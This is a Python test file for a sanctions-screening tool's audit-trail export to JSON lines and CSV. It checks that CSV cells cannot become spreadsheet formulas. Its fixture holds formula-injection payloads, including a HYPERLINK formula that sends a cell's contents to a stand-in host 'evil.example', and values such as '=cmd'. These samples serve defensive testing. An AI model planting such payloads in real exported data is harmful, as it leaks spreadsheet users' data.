"""Exporting the audit trail: JSON lines and CSV, periods, paging, formula-injection protection."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

import sanctionwatch.cli.audit  # noqa: F401  (registers the commands on the app)
from sanctionwatch.audit import trail as trail_module
from sanctionwatch.audit.export import FORMULA_TRIGGERS, safe_cell, write_csv, write_jsonl
from sanctionwatch.audit.recorder import AuditRecorder, ScreeningRecord
from sanctionwatch.audit.trail import AuditTrail
from sanctionwatch.cli.app import app
from sanctionwatch.settings import Settings
from sanctionwatch.store import Store

RecordFactory = Callable[..., ScreeningRecord]
START = datetime(2025, 1, 1, tzinfo=UTC)
MALICIOUS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "Zarkovia Trading LLC",
)


def _record_days(recorder: AuditRecorder, make_record: RecordFactory, days: int) -> list[ScreeningRecord]:
    records = [
        make_record(received_at=START + timedelta(days=n), names=("A",) * (n % 3)) for n in range(days)
    ]
    for future in [recorder.record(r) for r in records]:
        future.result(timeout=30)
    return records


def test_jsonl_export_of_a_period(store: Store, recorder: AuditRecorder, make_record: RecordFactory) -> None:
    records = _record_days(recorder, make_record, 10)
    out = io.BytesIO()
    count = write_jsonl(
        AuditTrail(store).screenings(START + timedelta(days=2), START + timedelta(days=5)), out
    )
    lines = [orjson.loads(line) for line in out.getvalue().splitlines()]
    assert count == len(lines) == 3  # days 2, 3, 4: since inclusive, until exclusive
    assert [line["screening_id"] for line in lines] == [r.screening_id for r in records[2:5]]
    first = lines[0]
    assert first["received_at"] == "2025-01-03T00:00:00+00:00"
    assert first["key_prefix"] == "Tk3yPref" and first["endpoint"] == "/v1/screen"
    assert first["list_versions"] == {"zk_list": 1} and first["threshold"] == 0.7 and first["limit"] == 10
    assert first["query"] == records[2].query
    assert [len(line["alerts"]) for line in lines] == [2, 0, 1]
    assert lines[0]["alerts"][1]["explanation"] == records[2].alerts[1]["explanation"]


def test_streaming_pages_through_everything_in_order(
    store: Store, recorder: AuditRecorder, make_record: RecordFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(trail_module, "PAGE_SIZE", 7)
    same_moment = [make_record(received_at=START) for _ in range(10)]  # ties are ordered by id
    later = _record_days(recorder, make_record, 25)
    for future in [recorder.record(r) for r in same_moment]:
        future.result(timeout=30)
    exported = [s.id for s in AuditTrail(store).screenings(START)]
    expected = sorted(r.screening_id for r in [*same_moment, later[0]]) + [r.screening_id for r in later[1:]]
    assert exported == expected


def test_csv_cells_cannot_become_formulas(
    store: Store, recorder: AuditRecorder, make_record: RecordFactory
) -> None:
    record = make_record(names=MALICIOUS, key_prefix="-prefix1", endpoint="=cmd")
    recorder.record(record).result(timeout=30)
    text = io.StringIO()
    assert write_csv(AuditTrail(store).screenings(START), text) == 1
    rows = list(csv.DictReader(io.StringIO(text.getvalue())))
    assert len(rows) == len(MALICIOUS)
    assert [row["matched_name"] for row in rows] == [
        "'" + name if name != "Zarkovia Trading LLC" else name for name in MALICIOUS
    ]
    assert rows[0]["key_prefix"] == "'-prefix1" and rows[0]["endpoint"] == "'=cmd"
    for row in rows:
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row.values())
    assert [float(row["score"]) for row in rows] == [a["score"] for a in record.alerts]


def test_csv_has_one_row_for_a_screening_without_alerts(
    store: Store, recorder: AuditRecorder, make_record: RecordFactory
) -> None:
    record = make_record(names=())
    recorder.record(record).result(timeout=30)
    text = io.StringIO()
    write_csv(AuditTrail(store).screenings(), text)
    rows = list(csv.DictReader(io.StringIO(text.getvalue())))
    assert len(rows) == 1
    assert rows[0]["screening_id"] == record.screening_id
    assert rows[0]["alert_count"] == "0" and rows[0]["entity_id"] == ""


@given(st.text(max_size=30))
def test_safe_cell_is_inert_and_lossless(value: str) -> None:
    safe = safe_cell(value)
    assert not safe.startswith(FORMULA_TRIGGERS)
    assert safe == value or safe == "'" + value


def _env(settings: Settings) -> dict[str, str]:
    return {
        "SANCTIONWATCH_DATA_DIR": str(settings.data_dir),
        "SANCTIONWATCH_DATABASE_URL": settings.resolved_database_url,
    }


def test_cli_export_to_files(
    settings: Settings, recorder: AuditRecorder, make_record: RecordFactory, tmp_path: Path
) -> None:
    records = _record_days(recorder, make_record, 4)
    recorder.record(make_record(received_at=START, names=MALICIOUS[:1])).result(timeout=30)
    runner = CliRunner()
    jsonl = tmp_path / "out" / "audit.jsonl"
    result = runner.invoke(
        app, ["audit", "export", "--since", "2025-01-02", "--output", str(jsonl)], env=_env(settings)
    )
    assert result.exit_code == 0, result.output
    assert "exported 3" in result.stderr
    ids = [orjson.loads(line)["screening_id"] for line in jsonl.read_bytes().splitlines()]
    assert ids == [r.screening_id for r in records[1:]]
    target = tmp_path / "audit.csv"
    args = ["audit", "export", "--since", "2025-01-01T00:00:00+00:00", "--until", "2025-01-02"]
    result = runner.invoke(app, [*args, "--format", "csv", "--output", str(target)], env=_env(settings))
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(target.open(encoding="utf-8", newline="")))
    assert sorted(row["matched_name"] for row in rows) == sorted(["'" + MALICIOUS[0], ""])
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


def test_cli_export_refuses_a_bad_date(settings: Settings) -> None:
    result = CliRunner().invoke(app, ["audit", "export", "--since", "yesterday"], env=_env(settings))
    assert result.exit_code != 0
    assert "ISO 8601" in str(result.exception)
